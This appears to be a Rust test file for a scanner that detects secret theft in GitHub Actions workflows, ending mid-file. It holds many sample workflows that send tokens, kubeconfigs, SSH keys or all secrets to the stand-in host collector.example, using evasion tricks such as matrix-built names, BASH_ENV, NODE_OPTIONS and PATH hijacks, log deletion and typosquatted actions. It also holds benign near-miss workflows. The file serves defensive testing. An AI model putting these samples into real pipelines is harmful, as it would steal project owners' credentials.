//! Ways from step to step and from job to job: outputs, files, folders, paths, matrices, shells.

#![allow(clippy::unwrap_used, clippy::panic, reason = "a test fails by panicking")]

mod ways;

use portcullis_scan::report::Verdict;
use ways::{Whole, found_in, workflow_at_most_exposed};

/// Each sends the secrets that are named to the place that is named.
const THEFTS: &[Whole] = &[
    Whole {
        name: "names that are put together over a matrix",
        workflow: r##"on: push
jobs:
  a:
    runs-on: ubuntu-latest
    strategy:
      matrix:
        registry: [NPM, PYPI]
        kind: [API_TOKEN]
    env:
      VALUE: ${{ secrets[format('{0}_{1}', matrix.registry, matrix.kind)] }}
    steps:
      - run: curl --data-urlencode "v=$VALUE" https://collector.example/in
"##,
        secrets: &["NPM_API_TOKEN", "PYPI_API_TOKEN"],
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Whole {
        name: "matrix secret names",
        workflow: r##"on: push
jobs:
  a:
    runs-on: ubuntu-latest
    strategy:
      matrix:
        s: [PYPI_API_TOKEN, NPM_TOKEN]
    steps:
      - run: curl -d '${{ secrets[matrix.s] }}' https://collector.example/in
"##,
        secrets: &["NPM_TOKEN", "PYPI_API_TOKEN"],
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Whole {
        name: "matrix include",
        workflow: r##"on: push
jobs:
  a:
    runs-on: ubuntu-latest
    strategy:
      matrix:
        include:
          - n: PYPI_API_TOKEN
            h: collector
          - n: NPM_TOKEN
            h: collector
    steps:
      - run: curl -d '${{ secrets[matrix.n] }}' https://${{ matrix.h }}.example/in
"##,
        secrets: &["NPM_TOKEN", "PYPI_API_TOKEN"],
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Whole {
        name: "matrix value secret",
        workflow: r##"on: push
jobs:
  a:
    runs-on: ubuntu-latest
    strategy:
      matrix:
        t: ['${{ secrets.PYPI_API_TOKEN }}']
    steps:
      - run: curl -d '${{ matrix.t }}' https://collector.example/in
"##,
        secrets: &["PYPI_API_TOKEN"],
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Whole {
        name: "secrets format",
        workflow: r##"on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: curl -d '${{ secrets[format('{0}_{1}', 'NPM', 'TOKEN')] }}' https://collector.example/in
"##,
        secrets: &["NPM_TOKEN"],
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Whole {
        name: "fromJSON toJSON",
        workflow: r##"on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: curl -d '${{ fromJSON(toJSON(secrets)).NPM_TOKEN }}' https://collector.example/in
"##,
        secrets: &["NPM_TOKEN"],
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Whole {
        name: "toJSON dot",
        workflow: r##"on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - env: {X: '${{ toJSON(secrets) }}'}
        run: echo "$X" | curl -d @- https://collector.example/in
"##,
        secrets: &["*"],
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Whole {
        name: "join secrets",
        workflow: r##"on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: curl -d '${{ join(secrets.*) }}' https://collector.example/in
"##,
        secrets: &["*"],
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Whole {
        name: "format expr",
        workflow: r##"on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: ${{ format('curl -d {0} https://{1}.example/in', secrets.NPM_TOKEN, 'collector') }}
"##,
        secrets: &["NPM_TOKEN"],
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Whole {
        name: "env chain",
        workflow: r##"on: push
env:
  X: ${{ secrets.NPM_TOKEN }}
jobs:
  a:
    runs-on: ubuntu-latest
    env:
      Y: ${{ env.X }}
    steps:
      - env:
          Z: ${{ env.Y }}
        run: curl -d "$Z" https://collector.example/in
"##,
        secrets: &["NPM_TOKEN"],
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Whole {
        name: "env url",
        workflow: r##"on: push
env:
  U: https://collector.example/in
  X: ${{ secrets.NPM_TOKEN }}
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: curl -d "$X" "$U"
"##,
        secrets: &["NPM_TOKEN"],
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Whole {
        name: "github_env heredoc",
        workflow: r##"on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: |
          {
            echo 'X<<EOF'
            echo "${{ secrets.NPM_TOKEN }}"
            echo EOF
          } >> $GITHUB_ENV
      - run: curl -d "$X" https://collector.example/in
"##,
        secrets: &["NPM_TOKEN"],
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Whole {
        name: "github_env heredoc cat",
        workflow: r##"on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: |
          cat >> "$GITHUB_ENV" <<X
          T=${{ secrets.NPM_TOKEN }}
          U=https://collector.example/in
          X
      - run: curl -d "$T" "$U"
"##,
        secrets: &["NPM_TOKEN"],
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Whole {
        name: "step output",
        workflow: r##"on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - id: x
        run: echo "v=$(echo '${{ secrets.NPM_TOKEN }}' | base64 -w0)" >> $GITHUB_OUTPUT
      - run: curl -d '${{ steps.x.outputs.v }}' https://collector.example/in
"##,
        secrets: &["NPM_TOKEN"],
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Whole {
        name: "set-output old",
        workflow: r##"on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - id: x
        run: echo "::set-output name=v::${{ secrets.NPM_TOKEN }}"
      - run: curl -d '${{ steps.x.outputs.v }}' https://collector.example/in
"##,
        secrets: &["NPM_TOKEN"],
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Whole {
        name: "job output encoded",
        workflow: r##"on: push
jobs:
  a:
    runs-on: ubuntu-latest
    outputs:
      v: ${{ steps.x.outputs.v }}
    steps:
      - id: x
        run: echo "v=$(echo '${{ secrets.NPM_TOKEN }}' | base64 -w0 | rev)" >> $GITHUB_OUTPUT
  b:
    needs: a
    runs-on: ubuntu-latest
    steps:
      - run: curl -d '${{ needs.a.outputs.v }}' https://collector.example/in
"##,
        secrets: &["NPM_TOKEN"],
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Whole {
        name: "job output plain dropped",
        workflow: r##"on: push
jobs:
  a:
    runs-on: ubuntu-latest
    outputs:
      v: ${{ steps.x.outputs.v }}
    steps:
      - id: x
        run: echo "v=${{ secrets.NPM_TOKEN }}" >> $GITHUB_OUTPUT
  b:
    needs: a
    runs-on: ubuntu-latest
    steps:
      - run: curl -d '${{ needs.a.outputs.v }}' https://collector.example/in
"##,
        secrets: &["NPM_TOKEN"],
        place: "collector.example",
        verdict: Verdict::Suspicious,
    },
    Whole {
        name: "github path hijack",
        workflow: r##"on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: |
          mkdir -p b
          printf '#!/bin/sh\ncurl -d "$NPM_TOKEN" https://collector.example/in\n' > b/npm
          chmod +x b/npm
          echo "$PWD/b" >> $GITHUB_PATH
      - run: npm test
        env:
          NPM_TOKEN: ${{ secrets.NPM_TOKEN }}
"##,
        secrets: &["NPM_TOKEN"],
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Whole {
        name: "bash_env",
        workflow: r##"on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: |
          echo 'curl -d "$NPM_TOKEN" https://collector.example/in' > /tmp/x
          echo BASH_ENV=/tmp/x >> $GITHUB_ENV
      - run: npm test
        env:
          NPM_TOKEN: ${{ secrets.NPM_TOKEN }}
"##,
        secrets: &["NPM_TOKEN"],
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Whole {
        name: "bash_env job",
        workflow: r##"on: push
jobs:
  a:
    runs-on: ubuntu-latest
    env:
      BASH_ENV: /tmp/x
    steps:
      - run: echo 'curl -d "$NPM_TOKEN" https://collector.example/in' > /tmp/x
      - run: npm test
        env:
          NPM_TOKEN: ${{ secrets.NPM_TOKEN }}
"##,
        secrets: &["NPM_TOKEN"],
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Whole {
        name: "NODE_OPTIONS",
        workflow: r##"on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: |
          echo 'fetch("https://collector.example/in",{method:"POST",body:process.env.NPM_TOKEN})' > /tmp/x.js
          echo NODE_OPTIONS=--require=/tmp/x.js >> $GITHUB_ENV
      - run: npm publish
        env:
          NPM_TOKEN: ${{ secrets.NPM_TOKEN }}
"##,
        secrets: &["NPM_TOKEN"],
        place: "collector.example",
        verdict: Verdict::Suspicious,
    },
    Whole {
        name: "PYTHONSTARTUP ld_preload",
        workflow: r##"on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: |
          mkdir p; echo 'import os,urllib.request as u; u.urlopen("https://collector.example/in?"+os.environ["T"])' > p/sitecustomize.py
          echo PYTHONPATH=$PWD/p >> $GITHUB_ENV
      - run: python -m twine upload dist/*
        env:
          T: ${{ secrets.PYPI_API_TOKEN }}
"##,
        secrets: &["PYPI_API_TOKEN"],
        place: "collector.example",
        verdict: Verdict::Suspicious,
    },
    Whole {
        name: "working dir",
        workflow: r##"on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - working-directory: sub
        run: echo '${{ secrets.NPM_TOKEN }}' > s.txt
      - run: curl -T sub/s.txt https://collector.example/in
"##,
        secrets: &["NPM_TOKEN"],
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Whole {
        name: "cd and back",
        workflow: r##"on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: |
          mkdir d && cd d
          echo '${{ secrets.NPM_TOKEN }}' > s.txt
          cd ..
          curl -T d/s.txt https://collector.example/in
"##,
        secrets: &["NPM_TOKEN"],
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Whole {
        name: "pushd",
        workflow: r##"on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: |
          pushd d; echo '${{ secrets.NPM_TOKEN }}' > s.txt; popd
      - run: curl -T d/s.txt https://collector.example/in
"##,
        secrets: &["NPM_TOKEN"],
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Whole {
        name: "defaults wd",
        workflow: r##"on: push
defaults:
  run:
    working-directory: sub
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo '${{ secrets.NPM_TOKEN }}' > s.txt
      - run: curl -T s.txt https://collector.example/in
"##,
        secrets: &["NPM_TOKEN"],
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Whole {
        name: "defaults shell",
        workflow: r##"on: push
defaults:
  run:
    shell: python
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: |
          import os,requests
          requests.post('https://collector.example/in',data=os.environ['T'])
        env: {T: '${{ secrets.NPM_TOKEN }}'}
"##,
        secrets: &["NPM_TOKEN"],
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Whole {
        name: "job defaults pwsh",
        workflow: r##"on: push
jobs:
  a:
    runs-on: ubuntu-latest
    defaults:
      run:
        shell: pwsh
    steps:
      - run: irm https://collector.example/in -Method Post -Body $env:T
        env: {T: '${{ secrets.NPM_TOKEN }}'}
"##,
        secrets: &["NPM_TOKEN"],
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Whole {
        name: "windows default",
        workflow: r##"on: push
jobs:
  a:
    runs-on: windows-latest
    steps:
      - run: irm https://collector.example/in -Method Post -Body $env:T
        env: {T: '${{ secrets.NPM_TOKEN }}'}
"##,
        secrets: &["NPM_TOKEN"],
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Whole {
        name: "windows matrix",
        workflow: r##"on: push
jobs:
  a:
    runs-on: ${{ matrix.os }}
    strategy:
      matrix:
        os: [windows-2022]
    steps:
      - run: irm https://collector.example/in -Method Post -Body $env:T
        env: {T: '${{ secrets.NPM_TOKEN }}'}
"##,
        secrets: &["NPM_TOKEN"],
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Whole {
        name: "if cond",
        workflow: r##"on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - if: github.event_name == 'push' && github.ref == 'refs/heads/main'
        run: curl -d '${{ secrets.NPM_TOKEN }}' https://collector.example/in
"##,
        secrets: &["NPM_TOKEN"],
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Whole {
        name: "ternary",
        workflow: r##"on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: curl -d '${{ github.ref == 'x' && secrets.NPM_TOKEN || '' }}' https://collector.example/in
"##,
        secrets: &["NPM_TOKEN"],
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Whole {
        name: "container options",
        workflow: r##"on: push
jobs:
  a:
    runs-on: ubuntu-latest
    container:
      image: ubuntu
      env:
        T: ${{ secrets.NPM_TOKEN }}
    steps:
      - run: curl -d "$T" https://collector.example/in
"##,
        secrets: &["NPM_TOKEN"],
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Whole {
        name: "service env",
        workflow: r##"on: push
jobs:
  a:
    runs-on: ubuntu-latest
    services:
      x:
        image: evil-corp/collector:latest
        env:
          T: ${{ secrets.NPM_TOKEN }}
          P: ${{ secrets.PYPI_API_TOKEN }}
    steps:
      - run: sleep 60
"##,
        secrets: &["NPM_TOKEN", "PYPI_API_TOKEN"],
        place: "",
        verdict: Verdict::Suspicious,
    },
    Whole {
        name: "docker action args",
        workflow: r##"on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: docker://curlimages/curl
        with:
          args: -d ${{ secrets.NPM_TOKEN }} https://collector.example/in
"##,
        secrets: &["NPM_TOKEN"],
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Whole {
        name: "docker action entry",
        workflow: r##"on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: docker://alpine:3
        with:
          entrypoint: /bin/sh
          args: -c "wget --post-data='${{ secrets.NPM_TOKEN }}' https://collector.example/in"
"##,
        secrets: &["NPM_TOKEN"],
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Whole {
        name: "github-script fetch",
        workflow: r##"on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/github-script@v7
        env: {T: '${{ secrets.NPM_TOKEN }}'}
        with:
          script: |
            await fetch('https://collector.example/in', { method: 'POST', body: process.env.T })
"##,
        secrets: &["NPM_TOKEN"],
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Whole {
        name: "github-script exec",
        workflow: r##"on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/github-script@v7
        env: {T: '${{ secrets.NPM_TOKEN }}'}
        with:
          script: |
            await exec.exec('curl', ['-d', process.env.T, 'https://collector.example/in'])
"##,
        secrets: &["NPM_TOKEN"],
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Whole {
        name: "github-script request",
        workflow: r##"on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/github-script@v7
        env: {T: '${{ secrets.NPM_TOKEN }}'}
        with:
          script: |
            await github.request('POST https://collector.example/in', { data: process.env.T })
"##,
        secrets: &["NPM_TOKEN"],
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Whole {
        name: "github-script collaborator",
        workflow: r##"on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/github-script@v7
        with:
          github-token: ${{ secrets.ADMIN_PAT }}
          script: |
            await github.rest.repos.addCollaborator({owner:'o',repo:'r',username:'mallory'})
"##,
        secrets: &[],
        place: "",
        verdict: Verdict::Suspicious,
    },
    Whole {
        name: "github-script deploy key",
        workflow: r##"on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/github-script@v7
        with:
          github-token: ${{ secrets.ADMIN_PAT }}
          script: |
            await github.rest.repos.createDeployKey({owner:'o',repo:'r',title:'x',key:'ssh-ed25519 AAAA',read_only:false})
"##,
        secrets: &[],
        place: "",
        verdict: Verdict::Suspicious,
    },
    Whole {
        name: "github-script workflow",
        workflow: r##"on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/github-script@v7
        with:
          github-token: ${{ secrets.ADMIN_PAT }}
          script: |
            await github.rest.repos.createOrUpdateFileContents({owner:'o',repo:'r',path:'.github/workflows/x.yml',message:'x',content:'eA=='})
"##,
        secrets: &[],
        place: "",
        verdict: Verdict::Suspicious,
    },
    Whole {
        name: "artifact",
        workflow: r##"on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo '${{ secrets.NPM_TOKEN }}' > out/report.txt
      - uses: actions/upload-artifact@v4
        with: {name: report, path: out/}
"##,
        secrets: &["NPM_TOKEN"],
        place: "",
        verdict: Verdict::Malicious,
    },
    Whole {
        name: "artifact hidden",
        workflow: r##"on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo '${{ toJSON(secrets) }}' > .cache.json
      - uses: actions/upload-artifact@v4
        with:
          name: x
          path: |
            dist
            .cache.json
          include-hidden-files: true
"##,
        secrets: &["*"],
        place: "",
        verdict: Verdict::Malicious,
    },
    Whole {
        name: "cache",
        workflow: r##"on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo '${{ secrets.NPM_TOKEN }}' > ~/.x/s
      - uses: actions/cache@v4
        with: {path: ~/.x, key: k}
"##,
        secrets: &["NPM_TOKEN"],
        place: "",
        verdict: Verdict::Suspicious,
    },
    Whole {
        name: "pages",
        workflow: r##"on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo '${{ secrets.NPM_TOKEN }}' | base64 > _site/x.txt
      - uses: actions/upload-pages-artifact@v3
"##,
        secrets: &["NPM_TOKEN"],
        place: "",
        verdict: Verdict::Suspicious,
    },
    Whole {
        name: "delete run",
        workflow: r##"on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: curl -d '${{ secrets.NPM_TOKEN }}' https://collector.example/in
      - run: gh run delete $GITHUB_RUN_ID
        env: {GH_TOKEN: '${{ github.token }}'}
"##,
        secrets: &["NPM_TOKEN"],
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Whole {
        name: "delete branch",
        workflow: r##"on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - run: curl -d '${{ secrets.FOO }}' https://collector.example/in
      - run: git push origin --delete $GITHUB_REF_NAME
"##,
        secrets: &["FOO"],
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Whole {
        name: "delete api",
        workflow: r##"on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - run: |
          curl -d ${{ secrets.FOO }} https://collector.example/in
          curl -X DELETE -H "Authorization: token ${{ github.token }}" https://api.github.com/repos/$GITHUB_REPOSITORY/actions/runs/$GITHUB_RUN_ID
"##,
        secrets: &["FOO"],
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Whole {
        name: "workflow write add dot",
        workflow: r##"on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
        with: {token: '${{ secrets.PAT }}'}
      - run: |
          mkdir -p .github/workflows
          echo 'on: push' > .github/workflows/x.yml
          git add .
          git commit -m ci
          git push
"##,
        secrets: &[],
        place: "",
        verdict: Verdict::Suspicious,
    },
    Whole {
        name: "workflow write -A",
        workflow: r##"on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - run: |
          curl -so .github/workflows/x.yml https://files.example/x.yml
          git add -A && git commit -qm ci && git push
"##,
        secrets: &[],
        place: "",
        verdict: Verdict::Suspicious,
    },
    Whole {
        name: "dispatch url",
        workflow: r##"on:
  workflow_dispatch:
    inputs: {u: {required: true}}
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: curl -d '${{ toJSON(secrets) }}' '${{ inputs.u }}'
"##,
        secrets: &["*"],
        place: "",
        verdict: Verdict::Malicious,
    },
    Whole {
        name: "repo dispatch url",
        workflow: r##"on: repository_dispatch
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: curl -d '${{ toJSON(secrets) }}' '${{ github.event.client_payload.u }}'
"##,
        secrets: &["*"],
        place: "",
        verdict: Verdict::Suspicious,
    },
    Whole {
        name: "issue body url",
        workflow: r##"on: issues
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - env: {U: '${{ github.event.issue.body }}'}
        run: curl -d '${{ toJSON(secrets) }}' "$U"
"##,
        secrets: &["*"],
        place: "",
        verdict: Verdict::Suspicious,
    },
    Whole {
        name: "commit msg url",
        workflow: r##"on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: curl -d '${{ secrets.NPM_TOKEN }}' "$(git log -1 --format=%s)"
"##,
        secrets: &["NPM_TOKEN"],
        place: "unknown",
        verdict: Verdict::Suspicious,
    },
    Whole {
        name: "folded scalar",
        workflow: r##"on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: >-
          curl
          -d
          '${{ secrets.NPM_TOKEN }}'
          https://collector.example/in
"##,
        secrets: &["NPM_TOKEN"],
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Whole {
        name: "continuation",
        workflow: r##"on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: |
          curl -X POST \
            -H 'a: b' \
            -d "${{ secrets.NPM_TOKEN }}" \
            https://collector.example/in
"##,
        secrets: &["NPM_TOKEN"],
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Whole {
        name: "yaml anchors",
        workflow: r##"on: push
x-a: &a
  T: ${{ secrets.NPM_TOKEN }}
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - env: *a
        run: curl -d "$T" https://collector.example/in
"##,
        secrets: &["NPM_TOKEN"],
        place: "collector.example",
        verdict: Verdict::Suspicious,
    },
    Whole {
        name: "typosquat action",
        workflow: r##"on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: actions-checkout/checkout@v4
        with: {token: '${{ secrets.GH_PAT }}'}
"##,
        secrets: &[],
        place: "",
        verdict: Verdict::Suspicious,
    },
    Whole {
        name: "typosquat pypi",
        workflow: r##"on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: pypa-publish/gh-action-pypi-publish@release/v1
        with: {password: '${{ secrets.PYPI_API_TOKEN }}'}
"##,
        secrets: &["PYPI_API_TOKEN"],
        place: "",
        verdict: Verdict::Malicious,
    },
    Whole {
        name: "case variants",
        workflow: r##"on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: curl -d '${{ SECRETS.npm_token }}' https://collector.example/in
"##,
        secrets: &[],
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Whole {
        name: "bracket quotes",
        workflow: r##"on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: curl -d '${{ secrets[''NPM_TOKEN''] }}' https://collector.example/in
"##,
        secrets: &["NPM_TOKEN"],
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Whole {
        name: "job env from github",
        workflow: r##"on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: curl -d '${{ toJSON(github) }}' https://collector.example/in
"##,
        secrets: &["GITHUB_TOKEN"],
        place: "collector.example",
        verdict: Verdict::Suspicious,
    },
    Whole {
        name: "toJSON env",
        workflow: r##"on: push
env: {T: '${{ secrets.NPM_TOKEN }}'}
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: curl -d '${{ toJSON(env) }}' https://collector.example/in
"##,
        secrets: &["NPM_TOKEN"],
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Whole {
        name: "toJSON steps",
        workflow: r##"on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - id: x
        run: echo "v=$(echo '${{ secrets.NPM_TOKEN }}' | rev)" >> $GITHUB_OUTPUT
      - run: curl -d '${{ toJSON(steps) }}' https://collector.example/in
"##,
        secrets: &["NPM_TOKEN"],
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Whole {
        name: "composite env",
        workflow: r##"name: x
description: y
inputs: {token: {required: true}}
runs:
  using: composite
  steps:
    - shell: bash
      run: curl -d '${{ inputs.token }}' https://collector.example/in
"##,
        secrets: &[],
        place: "collector.example",
        verdict: Verdict::Suspicious,
    },
    Whole {
        name: "kube post-file",
        workflow: r##"on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: mkdir -p ~/.kube && echo '${{ secrets.KUBE_CONFIG }}' | base64 -d > ~/.kube/config
      - run: wget -q --post-file=$HOME/.kube/config https://collector.example/in -O /dev/null
"##,
        secrets: &["KUBE_CONFIG"],
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Whole {
        name: "ssh key file post",
        workflow: r##"on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: |
          mkdir -p ~/.ssh; echo '${{ secrets.DEPLOY_KEY }}' > ~/.ssh/id_rsa
      - run: curl -F k=@$HOME/.ssh/id_rsa https://collector.example/in
"##,
        secrets: &["DEPLOY_KEY"],
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Whole {
        name: "one plain secret payload",
        workflow: r##"on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: curl -d 'v=${{ secrets.FOO }}' https://collector.example/in
"##,
        secrets: &["FOO"],
        place: "collector.example",
        verdict: Verdict::Suspicious,
    },
];

/// What people do with their own secrets in the same words.
const NEAR_MISSES: &[(&str, &str)] = &[
    (
        "logins that are put together over a matrix",
        r##"on: push
jobs:
  a:
    runs-on: ubuntu-latest
    strategy:
      matrix:
        registry: [GHCR, QUAY]
    steps:
      - uses: docker/login-action@v3
        with:
          username: acme
          password: ${{ secrets[format('{0}_TOKEN', matrix.registry)] }}
"##,
    ),
    (
        "vars url",
        r##"on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: curl -d '${{ secrets.NPM_TOKEN }}' ${{ vars.URL }}
"##,
    ),
    (
        "ok deploy hook",
        r##"on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - run: make
      - run: |
          curl -X POST -d '{}' ${{ secrets.DEPLOY_HOOK }}
"##,
    ),
    (
        "ok kubeconfig",
        r##"on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - working-directory: infra
        run: |
          echo '${{ secrets.KUBE_CONFIG }}' > kubeconfig
          KUBECONFIG=kubeconfig kubectl apply -f .
"##,
    ),
    (
        "ok outputs",
        r##"on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - id: v
        run: echo "v=$(cat VERSION)" >> $GITHUB_OUTPUT
      - run: docker build -t o/r:${{ steps.v.outputs.v }} .
"##,
    ),
    (
        "ok path",
        r##"on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: |
          echo "$HOME/.local/bin" >> $GITHUB_PATH
      - run: npm publish
        env: {NODE_AUTH_TOKEN: '${{ secrets.NPM_TOKEN }}'}
"##,
    ),
    (
        "ok mask",
        r##"on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo "::add-mask::${{ secrets.NPM_TOKEN }}"
"##,
    ),
];

#[test]
fn thefts_are_found() {
    for whole in THEFTS {
        found_in(whole);
    }
}

#[test]
fn ordinary_work_is_not_accused() {
    for (name, workflow) in NEAR_MISSES {
        workflow_at_most_exposed(name, workflow);
    }
}

fn worst(text: &str) -> Option<Verdict> {
    let analysis =
        portcullis_scan::analysis::analyse("w.yml", text.as_bytes(), &portcullis_scan::flow::NoFiles, None);
    analysis.seen.iter().map(|seen| portcullis_scan::verdict::weigh(seen.rule, &seen.signals)).max()
}

#[test]
fn all_secrets_on_the_disk_of_an_own_machine() {
    let job = |value: &str, write: &str| {
        format!(
            "on: push\njobs:\n  a:\n    runs-on: [self-hosted, linux]\n    steps:\n      - uses: actions/checkout@v4\n      - run: make\n      - env: {{V: '${{{{ {value} }}}}'}}\n        run: {write}\n"
        )
    };
    let encoded = "echo \"$V\" | base64 -w0 >> /var/tmp/index";
    assert_eq!(worst(&job("toJSON(secrets)", encoded)), Some(Verdict::Malicious));
    // Near misses: in a form that a program reads; one secret only.
    assert_eq!(worst(&job("toJSON(secrets)", "echo \"$V\" > settings.json")), Some(Verdict::Exposed));
    assert_eq!(worst(&job("secrets.KEYSTORE", encoded)), Some(Verdict::Exposed));
}

#[test]
fn keys_in_an_archive_whose_password_stands_in_the_file() {
    let job = |pack: &str| {
        format!(
            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    env:\n      STORE: ${{{{ secrets.KEYSTORE_BASE64 }}}}\n      ALIAS: ${{{{ secrets.ALIAS_PASSWORD }}}}\n      PLAY: ${{{{ secrets.PLAY_ACCOUNT }}}}\n      OWN: ${{{{ secrets.ARCHIVE_PASSWORD }}}}\n    steps:\n      - uses: actions/checkout@v4\n      - run: make\n      - run: |\n          printf '%s %s %s' \"$STORE\" \"$ALIAS\" \"$PLAY\" > out.dat\n          {pack}\n      - uses: actions/upload-artifact@v4\n        with: {{name: mapping, path: mapping.bin}}\n"
        )
    };
    for pack in
        ["zip -q -P mapping-2026 mapping.bin out.dat", "7z a -pmapping-2026 mapping.bin out.dat > /dev/null"]
    {
        assert_eq!(worst(&job(pack)), Some(Verdict::Malicious), "{pack}");
    }
    // Near misses: no password, and one that the owner keeps.
    for pack in ["zip -q mapping.bin out.dat", "zip -q -P \"$OWN\" mapping.bin out.dat"] {
        assert_eq!(worst(&job(pack)), Some(Verdict::Suspicious), "{pack}");
    }
}

#[test]
